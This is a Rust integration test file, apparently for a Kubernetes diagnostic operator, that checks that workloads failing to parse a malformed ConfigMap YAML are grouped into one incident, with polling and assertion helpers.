#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workloads_that_cannot_parse_one_config_map_are_one_incident() -> Result<()> {
    let log = "time=2026-12-07T09:12:02Z level=INFO msg=\"loading configuration\" file=/etc/shop/config.yaml\n\
               time=2026-12-07T09:12:02Z level=ERROR msg=\"failed to load configuration\" file=/etc/shop/config.yaml err=\"yaml: line 3: mapping values are not allowed in this context\"";
    let data = json!({"config.yaml": "currency: EUR\npayments:\n  url: http://payments:8080 timeout: 5s\n"});
    let Some(lead) = config_map_incident("configfile-e2e", data, log).await? else {
        return Ok(());
    };
    let detail = lead.incident_detail.clone().unwrap();
    ensure!(
        detail.cause.contains("ConfigMap shop/shop-config"),
        "{}",
        detail.cause
    );
    let root_cause = lead.findings.unwrap_or_default().root_cause;
    ensure!(
        root_cause.contains("key config.yaml of ConfigMap shop-config"),
        "{root_cause}"
    );
    Ok(())
}

/// Whether the report ended NoFix, in an incident, with findings.
fn concluded_in_incident(r: &DiagnosticReport) -> bool {
    r.status.as_ref().is_some_and(|s| {
        s.phase.is_some_and(|p| p.as_str() == "NoFix")
            && s.incident.is_some()
            && s.findings.is_some()
    })
}

/// Waits up to 120 s until `members` reports have concluded in an incident whose lead lists
/// all of them; the reports then.
async fn await_one_incident(
    reports: &Api<DiagnosticReport>,
    members: usize,
    op: &Operator,
) -> Result<Vec<DiagnosticReport>> {
    await_incidents(reports, &[members], op).await
}

/// Waits up to 120 s until reports have concluded in one incident per entry of `sizes`, each
/// listing that many members, and in no other; the reports then.
async fn await_incidents(
    reports: &Api<DiagnosticReport>,
    sizes: &[usize],
    op: &Operator,
) -> Result<Vec<DiagnosticReport>> {
    let deadline = Instant::now() + Duration::from_secs(120);
    let mut wanted = sizes.to_vec();
    wanted.sort();
    loop {
        let list = reports.list(&Default::default()).await?.items;
        let finished = list.iter().filter(|r| concluded_in_incident(r)).count();
        let mut listed: Vec<usize> = list
            .iter()
            .filter_map(|r| Some(r.status.as_ref()?.incident_detail.as_ref()?.members.len()))
            .collect();
        listed.sort();
        if finished == sizes.iter().sum::<usize>() && listed == wanted {
            return Ok(list);
        }
        if Instant::now() > deadline {
            bail!(
                "not incidents of {sizes:?} NoFix reports within 120 s: {:#?}\noperator log:\n{}",
                list.iter()
                    .map(|r| (&r.metadata.name, &r.spec.failure, &r.status))
                    .collect::<Vec<_>>(),
                op.log()
            );
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// The report that leads the incident, once checked to be the only one that leads and the only
/// one a brain investigated.
fn the_only_investigation(done: &[DiagnosticReport]) -> Result<&DiagnosticReport> {
    let leads: Vec<&DiagnosticReport> = done
        .iter()
        .filter(|r| r.status.as_ref().unwrap().incident_detail.is_some())
        .collect();
    ensure!(
        leads.len() == 1,
        "{} reports lead the incident",
        leads.len()
    );
    let investigated = done
        .iter()
        .filter(|r| r.status.as_ref().unwrap().brain.is_some())
        .count();
    ensure!(
        investigated == 1,
        "{investigated} investigations for one incident"
    );
    Ok(leads[0])
}
